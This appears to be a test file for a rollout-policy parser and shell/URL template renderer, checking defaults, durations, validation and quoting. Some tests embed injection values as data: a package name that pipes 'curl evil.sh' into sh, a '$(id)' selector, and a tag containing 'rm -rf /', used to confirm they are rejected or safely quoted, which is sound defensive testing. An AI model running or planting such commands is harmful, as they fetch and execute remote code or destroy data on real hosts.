import { PolicyError } from '../../policies/common/errors';
import { parsePolicyText } from '../../policies/common/parse';
import { rolloutPolicySchema } from '../../policies/rollout/policy';
import { renderCommand, renderUrl } from '../../policies/common/templates';

const base = `apiVersion: maint/v1
kind: RolloutPolicy
name: web-security
targets: {inventory: inventory.yaml, selector: "role=web"}
`;

function problems(text: string) {
  try {
    parsePolicyText(text, 'policy.yaml', rolloutPolicySchema);
  } catch (err) {
    if (err instanceof PolicyError) return err.problems;
    throw err;
  }
  throw new Error('expected the policy to be rejected');
}

describe('rollout policies', () => {
  it('fills in documented defaults', () => {
    const p = parsePolicyText(`${base}strategy: {kind: apt, packages: security}\n`, 'policy.yaml', rolloutPolicySchema);
    expect(p).toMatchObject({
      waves: { canary: 0, batches: ['100%'] }, maxUnavailable: 1, failureThreshold: 0, bakeTime: 0,
      health: { checks: [], interval: 2000, timeout: 5000, consecutiveSuccesses: 3, deadline: 120_000 },
      reboot: { mode: 'never' }, rollback: { scope: 'batch' }, commandTimeout: 600_000,
    });
  });

  it('reads durations like people write them', () => {
    const p = parsePolicyText(`${base}strategy: {kind: apt, packages: all}\nbakeTime: 1m30s\nhealth: {interval: 500ms, deadline: 2m}\n`, 'policy.yaml', rolloutPolicySchema);
    expect(p.bakeTime).toBe(90_000);
    expect(p.health).toMatchObject({ interval: 500, deadline: 120_000 });
  });

  it('rejects a package name with shell metacharacters before anything connects', () => {
    expect(problems(`${base}strategy: {kind: apt, packages: [openssl, 'nginx; curl evil.sh | sh']}\n`)).toEqual([
      expect.objectContaining({ path: 'strategy.packages[1]', line: 5, message: expect.stringContaining('expected a package name') }),
    ]);
  });

  it('names an unknown strategy kind, variable, duration and scope at their paths', () => {
    const found = problems(`${base}strategy: {kind: yum, packages: all}\nbakeTime: soon\nrollback: {scope: everything}\n`);
    expect(found.map((p) => p.path)).toEqual(['strategy.kind', 'bakeTime', 'rollback.scope']);
    expect(found[1]!.message).toBe('expected a duration like 30s, 2m, 1h, 5d or 1h30m');
    const vars = problems(`${base}strategy: {kind: command, target: '2.0', check: 'cat {{host.nmae}}', apply: 'x', rollback: 'y'}\n`);
    expect(vars).toEqual([expect.objectContaining({ path: 'strategy.check', message: expect.stringContaining('unknown variable {{host.nmae}}') })]);
  });

  it('rejects a bad selector, batch percentage and health check', () => {
    const found = problems(`apiVersion: maint/v1\nkind: RolloutPolicy\nname: x\ntargets: {inventory: i.yaml, selector: "role=$(id)"}\nstrategy: {kind: apt, packages: all}\nwaves: {batches: [1, "150%"]}\nhealth: {checks: [{kind: http, url: "ftp://x"}]}\n`);
    expect(found.map((p) => p.path)).toEqual(['targets.selector', 'waves.batches[1]', 'health.checks[0].url']);
  });

  it('quotes every template value as one shell word and percent-encodes URLs', () => {
    const host = { name: 'web-1', address: '10.0.0.5', port: 22, user: 'ops', tags: { lb: "pool a'; rm -rf /" } };
    expect(renderCommand('lbctl drain {{host.tags.lb}} {{host.name}}', { host })).toBe(`lbctl drain 'pool a'\\''; rm -rf /' web-1`);
    expect(renderUrl('http://{{host.address}}:8080/h?pool={{host.tags.lb}}', { host })).toBe('http://10.0.0.5:8080/h?pool=pool%20a\'%3B%20rm%20-rf%20%2F');
    expect(() => renderCommand('x {{host.tags.missing}}', { host })).toThrow(/host web-1 has no tag "missing"/);
  });
});
